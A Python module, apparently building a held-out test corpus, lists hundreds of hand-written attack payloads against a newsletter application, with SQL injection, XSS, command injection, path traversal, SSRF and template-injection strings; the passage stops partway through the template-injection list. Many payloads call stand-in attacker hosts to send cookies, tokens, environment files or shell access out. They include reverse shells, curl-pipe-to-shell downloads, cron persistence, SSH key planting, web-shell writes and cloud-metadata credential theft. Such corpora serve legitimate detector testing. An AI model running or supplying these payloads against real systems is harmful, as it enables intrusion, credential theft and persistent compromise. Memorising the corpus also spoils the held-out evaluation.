r"""Attack held-out corpus for the newsletter / e-mail marketing theme.

Each value is a working payload against a vulnerable newsletter application
that places the field where the class says: segment rules and search boxes
concatenated into SQL, subject lines / preheaders / merge fallbacks rendered
as HTML in the campaign editor, SPF/DKIM check domains and webhook URLs put on
a shell line, template / partial / attachment names joined to a file path,
webhook / image / feed URLs fetched server-side, template bodies rendered by a
server-side engine, JSON filters handed to MongoDB, subject / from-name /
reply-to written into mail headers and logs, and directory lookups built into
LDAP filters or XPath queries.

class = "<context>-<technique>[+<encoding>]".  All literals were hand-written
for this corpus; the template functions only recombine small hand-written
pools and apply the encodings.  Standard library only, deterministic.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8002
PREFIX = "ha80"

# ------------------------------------------------------------------ SQLi
SQLI = [
    ("plain-boolean-blind", "' AND (SELECT COUNT(*) FROM users)>0 AND 'a'='a"),
    ("plain-time-blind", "1' AND SLEEP(5) AND '1'='1"),
    ("segment-tautology", "vip' OR '1'='1"),
    ("segment-union", "newsletter' UNION SELECT email, password_hash FROM admin_users--"),
    ("segment-union", "DE') UNION ALL SELECT api_key,NULL,NULL FROM integrations-- -"),
    ("segment-stacked", "30; DROP TABLE subscribers;--"),
    ("segment-time-blind", "3 AND SLEEP(5)"),
    ("segment-time-blind", "3) AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL--"),
    ("search-boolean-blind", "spring%' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a' AND '%'='"),
    ("search-error", "x' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- "),
    ("sort-conditional", "created_at, (CASE WHEN (SELECT COUNT(*) FROM api_tokens)>0 THEN opens ELSE clicks END)"),
    ("sort-time-blind", "opens DESC, IF(ASCII(SUBSTR(user(),1,1))>100,SLEEP(4),0)"),
    ("tag-stacked-xpcmdshell", "vip'; EXEC xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("tag-time-blind", "'; IF (SELECT COUNT(*) FROM sys.tables)>0 WAITFOR DELAY '0:0:5'--"),
    ("listname-oob-dns", "' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oob.attacker.example')--"),
    ("listname-oob-smb", "'; DECLARE @h varchar(200); SET @h=(SELECT TOP 1 api_key FROM integrations)+'.oob.attacker.example'; EXEC('master..xp_dirtree \"\\\\'+@h+'\\x\"');--"),
    ("search-union-sqlite", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("segment-union-schema", "0 UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()"),
    ("csv-insert-subquery", "email,first_name\nx@attacker.example','x',(SELECT password FROM users WHERE id=1))-- ,Jane"),
    ("segment-union+comment-spaces", "vip'/**/UnIoN/**/SeLeCt/**/email,token/**/FROM/**/sessions#"),
    ("segment-union+versioned-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(email),3 FROM subscribers"),
    ("segment-tautology", "country = 'DE' OR 'a'='a'"),
    ("segment-union", "last_click < 30) UNION SELECT username, password FROM admins WHERE (1=1"),
    ("segment-stacked-update", "x' OR email LIKE '%@%'; UPDATE subscribers SET status='active' WHERE status='unsubscribed'; --"),
    ("mergefield-identifier", "FNAME`, (SELECT password FROM users LIMIT 1) AS `x"),
    ("listname-union", "Weekly Deals' UNION SELECT card_last4, card_exp FROM billing-- -"),
    ("search-stacked-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/p.sh|sh';--"),
    ("plain-union-file-read", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("search-into-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/u.php'-- -"),
    ("campaign-id-boolean-blind", "123 AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>8)='x'"),
    ("campaign-id-boolean-blind", "1 AND ASCII(LOWER(SUBSTRING((SELECT api_key FROM integrations LIMIT 1),1,1)))>109"),
    ("campaign-id-heavy-query", "1 AND 2=(SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B)"),
    ("search-error-mssql", "' AND 1=CONVERT(int,(SELECT TOP 1 email FROM subscribers))--"),
    ("search-error-postgres", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("search-boolean-postgres", "x' OR (SELECT current_setting('is_superuser'))='on'--"),
    ("plain-tautology", "' OR '' = '"),
    ("plain-comment-truncation", "admin'--"),
    ("plain-tautology", "\") OR (\"x\"=\"x"),
    ("campaign-id-tautology", "42 OR 1=1"),
    ("search-union-version", "%' AND 0 UNION SELECT 1,@@version,3#"),
    ("plain-column-enum", "1' ORDER BY 12-- -"),
    ("csv-second-order", "email,first_name\nkeira@example.com,\"O'Neil'); DELETE FROM campaigns WHERE ('1'='1\""),
    ("search-heavy-sqlite", "' || (SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN randomblob(400000000) ELSE 0 END) || '"),
    ("search-error-oracle", "' AND (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)='a'--"),
    ("search-union-oracle", "' UNION SELECT name, password FROM sys.user$--"),
    ("utm-time-blind", "spring24' AND (SELECT 6 FROM (SELECT(SLEEP(5)))x)-- "),
    ("segment-json-union", '{"field":"opens","op":">","value":"3 UNION SELECT password FROM users"}'),
    ("sort-error-double-query", "(SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("timezone-benchmark", "Europe/Berlin' AND BENCHMARK(5000000,SHA1('x'))-- "),
    ("tag-escape-bypass", "vip\\' OR 1=1-- "),
    ("segment-union+newlines", "vip'\nUNION\nSELECT\nemail,\npassword_hash\nFROM\nadmins--"),
    ("plain-tautology+fullwidth", "ｖｉｐ＇ OR 1=1--"),
    ("search-union+char-function", "' UNION SELECT CHAR(97,100,109,105,110),2-- "),
    ("campaign-id-union+hex-literal", "1 UNION SELECT 1,password FROM users WHERE username=0x61646d696e"),
    ("search-stacked-mssql", "';SELECT name FROM master..sysdatabases--"),
    ("search-stacked-privilege", "'; ALTER USER app_rw WITH SUPERUSER;--"),
    ("search-boolean-mysql", "' OR (SELECT 1 FROM dual WHERE user() LIKE 'root%')#"),
    ("subject-search-tautology", "Black Friday%' AND '1'='1"),
    ("csv-insert-stacked", "evil@attacker.example\",\"x\"); INSERT INTO admins(email,role) VALUES('evil@attacker.example','owner');--"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-stacked", "1; TRUNCATE TABLE email_events--"),
    ("segment-rule-tautology", "opens > 3 AND last_click < 30 OR 1=1 --"),
    ("merge-default-union", "{{ first_name | default: \"x' UNION SELECT smtp_password FROM settings-- \" }}"),
    ("webhook-json-stacked", '{"event":"unsubscribe","email":"a@example.com\'; DELETE FROM suppressions;--"}'),
    ("abtest-id-time-blind", "77 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("segment-like-wildcard-dump", "%' OR email LIKE '%"),
    ("listname-stacked-grant", "News'; GRANT ALL PRIVILEGES ON *.* TO 'mk'@'%' IDENTIFIED BY 'PLACEHOLDER';#"),
    ("sort-subquery-boolean", "(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='$' THEN 1 ELSE 1/(SELECT 0) END)"),
]

# ------------------------------------------------------------------ XSS
XSS = [
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
    ("plain-body-onload", "<body onload=alert(document.cookie)>"),
    ("subject-script", "Spring sale 🌸<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-img-onerror", "<img src=\"x\" alt=\"hero\" onerror=\"new Image().src='//attacker.example/x?c='+document.cookie\">"),
    ("html-svg-onload", "<svg onload=\"location='https://attacker.example/?'+localStorage.getItem('token')\">"),
    ("href-javascript", "<a href=\"javascript:fetch('//attacker.example/k',{method:'POST',body:document.cookie})\">View in browser</a>"),
    ("href-javascript+html-entities", "<a href=\"jav&#x61;script&colon;alert(document.domain)\">Unsubscribe</a>"),
    ("alt-attr-breakout", "\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("style-attr-breakout", "color:red\" onfocus=\"alert(document.domain)\" autofocus tabindex=\"1"),
    ("preheader-tag-breakout", "</span><script src=\"https://attacker.example/p.js\"></script><span>"),
    ("title-breakout", "</title><script>alert(document.domain)</script>"),
    ("html-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.postMessage(document.cookie,'*')&lt;/script&gt;\"></iframe>"),
    ("html-details-ontoggle+base64", "<details open ontoggle=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Yz0nK2RvY3VtZW50LmNvb2tpZSk='))\"><summary>Read more</summary></details>"),
    ("html-comment-breakout", "--><img src=x onerror=alert(document.domain)><!--"),
    ("merge-fallback-img", "{{ first_name | default: \"<img src=x onerror=alert(document.cookie)>\" }}"),
    ("mergetag-svg", "*|FNAME|*<svg/onload=alert(document.cookie)>"),
    ("csv-name-img", "email,first_name\nx@attacker.example,\"<img src=1 onerror=alert(document.domain)>\""),
    ("js-template-literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("js-string-breakout", "';alert(document.cookie);//"),
    ("script-block-breakout", "</script><script>alert(document.domain)</script>"),
    ("webhook-json-script-breakout", "{\"preheader\":\"</script><img src=x onerror=alert(1)>\"}"),
    ("html-form-action-javascript", "<form action=\"javascript:alert(document.cookie)\"><button>Confirm subscription</button></form>"),
    ("html-button-formaction", "<form><button formaction=\"javascript:alert(document.domain)\">Update preferences</button></form>"),
    ("html-input-autofocus", "<input autofocus onfocus=\"alert(document.domain)\" value=\"Search newsletters\">"),
    ("html-body-onpageshow", "<body onpageshow=\"alert(document.cookie)\">"),
    ("html-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("plain-svg-animate", "<svg><animate onbegin=\"alert(document.domain)\" attributeName=\"x\" dur=\"1s\"></svg>"),
    ("html-svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(document.cookie)\"><text x=\"20\" y=\"20\">Click to confirm</text></a></svg>"),
    ("plain-img-tagged-template", "<img/src=x/onerror=alert`1`>"),
    ("html-video-source-onerror", "<video><source onerror=\"fetch('//attacker.example/?'+document.cookie)\"></video>"),
    ("html-audio-dynamic-import", "<audio src=x onerror=import('//attacker.example/m.js')>"),
    ("plain-script+case-mixing", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("html-handler+decimal-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("html-handler+js-unicode-escape", "<svg onload=\"\\u0061lert(document.domain)\">"),
    ("plain-script+urlencoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("plain-svg+double-urlencoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("markdown-link-javascript", "[View report](javascript:alert(document.cookie))"),
    ("markdown-image-attr-breakout", "![logo](x\" onerror=\"alert(1))"),
    ("clientside-template-injection", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("html-dom-clobbering", "<form id=\"config\"><input name=\"apiBase\" value=\"https://attacker.example/\"></form>"),
    ("html-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("html-css-import-exfil", "<style>@import url(\"https://attacker.example/leak.css\");</style>"),
    ("plain-iframe-javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("utm-attr-breakout", "spring24\"><script>alert(document.domain)</script>"),
    ("href-unquoted-breakout", "https://example.com/?a=1 onclick=alert(document.cookie)"),
    ("href-javascript-comment+urlencoded-newline", "javascript://example.com/%0Aalert(document.cookie)"),
    ("href-javascript+case-mixing", "JaVaScRiPt:alert(document.domain)"),
    ("href-javascript+tab", "java\tscript:alert(document.cookie)"),
    ("upload-svg-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("subject-img-onerror", "🔥 Deals <img src=x onerror=alert(document.cookie)> inside"),
    ("footer-script", "Hauptstraße 5<br><script>new Image().src=\"//attacker.example/?\"+document.cookie</script>"),
    ("html-css-animation-handler", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(document.domain)\"></div>"),
    ("html-contenteditable-focus", "<p contenteditable autofocus onfocusin=\"alert(document.cookie)\">edit me</p>"),
    ("html-popover-beforetoggle", "<button popovertarget=\"p\">Preview</button><div id=\"p\" popover onbeforetoggle=\"alert(document.cookie)\">x</div>"),
    ("html-onclick-api-exfil", "<a href=\"#\" onclick=\"fetch('/api/account/api-keys').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example/k',t))\">View in browser</a>"),
    ("webhook-json-svg", "{\"event\":\"open\",\"email\":\"<svg onload=alert(document.domain)>@example.com\"}"),
    ("html-img-src-rewrite", "Thanks!<img src=/ onerror=this.src='//attacker.example/?c='+document.cookie>"),
    ("preheader-textarea-breakout", "</textarea><svg onload=alert(document.domain)>"),
    ("html-object-data-javascript", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("html-meta-refresh-exfil", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login?from=newsletter-editor\">"),
    ("liquid-raw-output-script", "{% raw %}<script>alert(document.domain)</script>{% endraw %}"),
    ("handlebars-triple-stash", "{{{ '<img src=x onerror=alert(document.cookie)>' }}}"),
    ("segment-name-script", "Dormant 6m+ <script>fetch('/api/users').then(r=>r.json()).then(d=>fetch('//attacker.example/',{method:'POST',body:JSON.stringify(d)}))</script>"),
    ("html-svg-foreignobject", "<svg><foreignObject><iframe src=\"javascript:alert(document.domain)\"></iframe></foreignObject></svg>"),
    ("html-table-background-javascript", "<table><tr><td><a href=\"  javascript:alert(document.cookie)\">Read more</a></td></tr></table>"),
    ("html-select-onchange", "<select onfocus=\"alert(document.domain)\" autofocus><option>weekly</option></select>"),
]

# ------------------------------------------------------------------ command injection
CMDI = [
    ("plain-backticks", "`cat /etc/passwd`"),
    ("plain-newline", "\nid"),
    ("spf-check-semicolon", "example.com; cat /etc/passwd"),
    ("dkim-selector-subshell", "s1$(curl -s http://203.0.113.5/x|sh)"),
    ("dkim-selector-backticks", "s1`id`"),
    ("spf-check-and-chain", "example.com && wget -qO- http://attacker.example/a.sh | bash"),
    ("spf-check-pipe-netcat", "example.com | nc 203.0.113.10 4444 -e /bin/sh"),
    ("spf-check-newline-revshell", "example.com\nbash -i >& /dev/tcp/203.0.113.12/443 0>&1"),
    ("mx-check-or-chain", "nonexistent.invalid || curl http://attacker.example/$(whoami)"),
    ("webhook-curl-quote-breakout", "https://hooks.example.com/x' ; curl -d @/etc/passwd https://attacker.example/ ; echo '"),
    ("webhook-curl-argument-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("webhook-curl-upload-argument", "--upload-file /etc/shadow https://attacker.example/"),
    ("image-convert-quote-breakout", "https://cdn.example.com/hero.jpg\"; rm -rf /var/app/uploads; \""),
    ("export-filename-semicolon", "april_report.csv; curl attacker.example/r|sh #"),
    ("spf-check-ifs", "example.com;cat${IFS}/etc/passwd"),
    ("spf-check-brace-expansion", "example.com;{cat,/etc/hostname}"),
    ("dkim-selector-newline+urlencoded", "example.com%0aid"),
    ("mx-check-windows-ampersand", "example.com & type C:\\Windows\\win.ini"),
    ("mx-check-powershell-download", "example.com | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.30/p.ps1')\""),
    ("mx-check-certutil", "example.com & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("dkim-selector-env-exfil", "$(printenv | base64 -w0 | xargs -I{} curl https://attacker.example/?d={})"),
    ("spf-check-time-blind", "example.com;sleep 10;"),
    ("spf-check-ping-blind", "example.com| ping -c 8 127.0.0.1"),
    ("dkim-selector-dns-exfil", "$(hostname).oob.attacker.example"),
    ("dkim-selector-nslookup-exfil", "`nslookup $(whoami).oob.attacker.example`"),
    ("spf-check-glob-obfuscation", "example.com;/???/c?t /e??/p?ss??"),
    ("spf-check-quote-obfuscation", "example.com;c'a't /et'c'/pa''sswd"),
    ("spf-check-backslash-obfuscation", "example.com;w\\ho\\am\\i"),
    ("spf-check-variable-concat", "example.com;a=ca;b=t;$a$b /etc/passwd"),
    ("spf-check-base64-pipe", "example.com;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("spf-check-printf-hex", "example.com;$(printf '\\x69\\x64')"),
    ("export-tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("mail-from-argument-injection", "bounce@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("spf-check-python-revshell", "example.com; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.40\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("spf-check-fifo-revshell", "example.com; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.42 4242 >/tmp/f"),
    ("spf-check-cron-persistence", "example.com; echo '* * * * * root curl -s attacker.example/c|sh' > /etc/cron.d/upd"),
    ("dkim-selector-ssh-key", "x; echo ssh-ed25519 AAAAPLACEHOLDERKEY attacker@attacker.example >> ~/.ssh/authorized_keys"),
    ("spf-check-process-substitution", "example.com;bash <(curl -s http://attacker.example/i)"),
    ("spf-check-here-string", "example.com;bash<<<$(curl -s attacker.example/i)"),
    ("subject-mail-quote-breakout", "\"; id > /tmp/pwn; echo \""),
    ("plain-subshell", "$(id)"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| id"),
    ("plain-and-chain", "&& uname -a"),
    ("mx-check-ifs-args", "mail.example.com;uname${IFS}-a"),
    ("dkim-selector-dig-newline", "google\n/usr/bin/id"),
    ("dns-argument-injection", "-f/etc/passwd"),
    ("export-zip-argument-injection", "export.zip -T -TT 'sh -c id'"),
    ("image-mvg-delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/hero.jpg\"|curl \"attacker.example/im)'\npop graphic-context"),
    ("spf-check-crlf-chain", "example.com\r\ncurl attacker.example|sh"),
    ("spf-check-substring-slash", "example.com;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("spf-check-rev-obfuscation", "example.com;$(rev<<<'dwssap/cte/ tac')"),
    ("spf-check-tac-ifs", "example.com;tac$IFS/etc/shadow"),
    ("mx-check-caret-obfuscation", "example.com & w^h^o^a^m^i"),
    ("mx-check-comspec", "example.com & %COMSPEC% /c dir C:\\"),
    ("spf-check-background-beacon", "example.com;nohup bash -c 'while :; do curl -s attacker.example/b|sh; sleep 600; done' &"),
    ("webhook-test-subshell-url", "https://hooks.example.com/$(curl -s attacker.example/w|sh)"),
    ("tracking-domain-backticks", "click.example.com`wget -q -O /tmp/.x http://198.51.100.14/x && chmod +x /tmp/.x && /tmp/.x`"),
    ("csv-filename-semicolon", "contacts_2024-05.csv;id>/var/www/html/id.txt"),
    ("pdf-report-title-subshell", "Monthly report $(cat /var/app/.env | curl -X POST --data-binary @- https://attacker.example/e)"),
    ("font-name-ampersand", "Inter & curl -s attacker.example/f | sh &"),
    ("spf-check-xargs", "example.com;ls /home | xargs -I{} curl attacker.example/{}"),
    ("spf-check-awk-system", "example.com;awk 'BEGIN{system(\"id\")}'"),
    ("dkim-selector-perl", "s1;perl -e 'exec \"/bin/sh\"'"),
    ("webhook-curl-config-argument", "-K /var/app/.curlrc.tmp -x http://203.0.113.20:8080 https://hooks.example.com/"),
    ("mx-check-find-exec", "example.com;find /var/app -name '*.env' -exec curl -F f=@{} https://attacker.example/u \\;"),
]

# ------------------------------------------------------------------ traversal
TRAVERSAL = [
    ("plain-backslash-windows", "..\\..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("plain-dotdot", "../../../../etc/passwd"),
    ("template-name-dotdot", "templates/../../../../app/config/secrets.yml"),
    ("partial-name-dotdot", "footer_de.html/../../../../../proc/self/environ"),
    ("template-name-dotdot+urlencoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("attachment-dotdot+double-urlencoded", "..%252f..%252f..%252fetc%252fshadow"),
    ("template-name-strip-bypass", "....//....//....//etc/passwd"),
    ("attachment-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("attachment-backslash+urlencoded", "..%5c..%5c..%5cboot.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("image-path-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("image-path-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("export-path-absolute-dotdot", "/var/www/app/../../../root/.ssh/id_rsa"),
    ("image-path-dotdot+nullbyte", "../../../../etc/passwd%00.png"),
    ("liquid-include-dotdot", "{% include '../../../../etc/passwd' %}"),
    ("handlebars-partial-dotdot", "{{> ../../../config/database }}"),
    ("locale-dotdot", "../../../../../../proc/self/cmdline"),
    ("locale-prefix-dotdot", "de_DE/../../../../../var/log/nginx/access.log"),
    ("template-name-env", "../../.env"),
    ("attachment-cloud-creds", "../../../../home/app/.aws/credentials"),
    ("attachment-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("archive-url-path-semicolon", "..;/..;/admin/export"),
    ("static-path-encoded-slash", "/static/..%2f..%2f..%2fapp.py"),
    ("attachment-encoded-dots", "attachments/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("template-name-mixed-encoding", ".%2e/.%2e/.%2e/etc/group"),
    ("attachment-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("import-zip-slip", "contacts_2024/../../../../../var/www/html/cmd.php"),
    ("attachment-windows-absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("attachment-unc-path", "\\\\203.0.113.50\\share\\tpl.html"),
    ("attachment-proc-fd", "../../../../proc/self/fd/7"),
    ("attachment-dotdot+iis-unicode", "..%u2216..%u2216etc%u2216passwd"),
    ("attachment-dotdot+fullwidth-slash", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("logo-path-dotdot", "logo.png/../../../../../../etc/passwd"),
    ("theme-dotdot", "themes/default/../../../../../../../../etc/shadow"),
    ("template-name-python-settings", "../../../../../../usr/local/lib/python3.11/site-packages/app/settings.py"),
    ("attachment-shell-history", "../../../../../../root/.bash_history"),
    ("image-path-double-slash", "/..//..//..//..//etc/passwd"),
    ("template-name-dot-segments", "./../.././../etc/passwd"),
    ("plain-dotdot+urlencoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("template-name-nested-strip-bypass", "..././..././..././etc/passwd"),
    ("csv-attachment-path", "email,attachment\njane@example.com,../../../../etc/passwd"),
    ("webhook-json-template-path", "{\"template\":\"../../../../../app/.env\",\"lang\":\"de\"}"),
    ("export-name-tls-key", "export_2024-05.csv/../../../../../../etc/ssl/private/server.key"),
    ("plain-absolute-proc", "/proc/self/environ"),
    ("attachment-backslash+overlong-utf8", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("font-path-pg-config", "fonts/../../../../../../var/lib/postgresql/data/pg_hba.conf"),
    ("jinja-include-dotdot", "{% include \"../../../../../etc/hostname\" %}"),
    ("ampscript-contentblock-path", "%%=ContentBlockByName(\"..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts\")=%%"),
]

# ------------------------------------------------------------------ SSRF
SSRF = [
    ("plain-cloud-metadata", "http://169.254.169.254/latest/dynamic/instance-identity/document"),
    ("webhook-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-cloud-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("image-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("feed-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-loopback-redis", "http://127.0.0.1:6379/"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A"),
    ("webhook-localhost-admin", "http://localhost:8080/admin/users?export=all"),
    ("feed-url-zero-address", "http://0.0.0.0:9200/_cat/indices"),
    ("webhook-loopback+decimal-ip", "http://2130706433/"),
    ("webhook-loopback+hex-ip", "http://0x7f000001/"),
    ("webhook-loopback+octal-ip", "http://0177.0.0.1/"),
    ("webhook-loopback+short-ip", "http://127.1/"),
    ("webhook-ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("image-url-metadata+ipv4-mapped-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-dns-rebind", "http://169-254-169-254.rebind.attacker.example/latest/meta-data/"),
    ("image-url-userinfo-confusion", "http://cdn.example.com@169.254.169.254/latest/meta-data/"),
    ("image-url-fragment-confusion", "http://127.0.0.1#@cdn.example.com/"),
    ("webhook-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("feed-url-file-scheme", "file:///proc/self/environ"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("feed-url-internal-actuator", "http://10.0.0.5:8080/actuator/env"),
    ("webhook-docker-api", "http://172.17.0.1:2375/containers/json"),
    ("webhook-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("webhook-envoy-admin", "http://localhost:15000/config_dump"),
    ("image-url-ipv6-embedded-ipv4", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("webhook-loopback+enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/"),
    ("webhook-loopback+percent-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("merge-connected-content-metadata", "{% connected_content http://169.254.169.254/latest/meta-data/iam/security-credentials/ :save creds %}{{ creds }}"),
    ("feed-url-server-status", "http://localhost/server-status"),
    ("plain-zero-host", "http://0/"),
    ("webhook-backslash-parser-confusion", "http://169.254.169.254\\@hooks.example.com/"),
    ("webhook-json-k8s-proxy", "{\"url\":\"http://127.0.0.1:8001/api/v1/namespaces\",\"events\":[\"open\",\"click\"]}"),
    ("image-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("image-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("image-url-metadata+hex-octets", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("attachment-url-jar-scheme", "jar:http://attacker.example/x.zip!/a.txt"),
    ("attachment-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("bimi-logo-internal-minio", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("feed-url-gcp-short-metadata", "http://metadata/computeMetadata/v1/?recursive=true"),
    ("webhook-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("webhook-ecs-metadata", "http://169.254.170.2/v2/metadata"),
    ("html-image-proxy-internal", "<img src=\"http://10.0.0.12:8500/v1/kv/?recurse\" width=\"1\" height=\"1\">"),
    ("csv-avatar-url-internal", "email,avatar_url\njane@example.com,http://127.0.0.1:5984/_all_dbs"),
    ("feed-url-ftp-internal", "ftp://10.0.0.8/backups/"),
    ("webhook-ldap-scheme", "ldap://127.0.0.1:389/dc=example,dc=com?*"),
]

# ------------------------------------------------------------------ code (SSTI, EL, deserialization, XXE, JNDI, prototype pollution, CSV formula)
CODE = [
    ("plain-xxe-file", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/shadow\">]><x>&f;</x>"),
    ("jinja-ssti-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja-ssti-template-reference", "Hi {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("jinja-ssti-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("jinja-ssti-config-leak", "Hi {{ first_name }}, {{ config.items() }}"),
    ("jinja-ssti-request-globals", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("plain-jinja-lipsum-environ", "{{ lipsum.__globals__['os'].environ }}"),
    ("jinja-ssti-attr-filter+hex-escapes", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja-ssti-namespace", "{{ namespace.__init__.__globals__.os.system('sleep 7') }}"),
    ("jinja-ssti-builtins-open", "{% set x = get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() %}{{ x }}"),
    ("twig-ssti-filter-system", "{{ ['id']|filter('system') }}"),
    ("twig-ssti-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("twig-ssti-undefined-filter", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("twig-ssti-sort-callback", "{{ ['id', 0]|sort('system') }}"),
    ("freemarker-ssti-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-ssti-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
